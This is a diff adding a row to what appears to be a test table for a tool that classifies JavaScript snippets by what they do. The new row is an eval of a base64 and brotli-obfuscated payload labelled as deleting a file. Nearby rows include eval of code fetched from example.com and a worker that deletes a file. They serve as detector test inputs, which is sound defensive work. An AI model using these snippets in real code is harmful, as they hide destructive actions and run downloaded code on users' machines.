@@ -93,6 +93,11 @@ const ROWS: readonly (readonly [code: string, ...expected: string[]])[] = [
     'delete inside x',
     'opaque',
   ],
+  [
+    'eval(String(require("zlib").brotliDecompressSync(Buffer.from("Cw6AcmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4JykD", "base64"))))',
+    'delete inside x',
+    'opaque',
+  ],
   ['eval(process.argv[2])', 'opaque'],
   ['eval(await (await fetch("https://example.com/x.js")).text())', 'download-execute'],
   ['new (require("worker_threads").Worker)("require(\'fs\').unlinkSync(\'x\')", { eval: true })', 'delete inside x'],
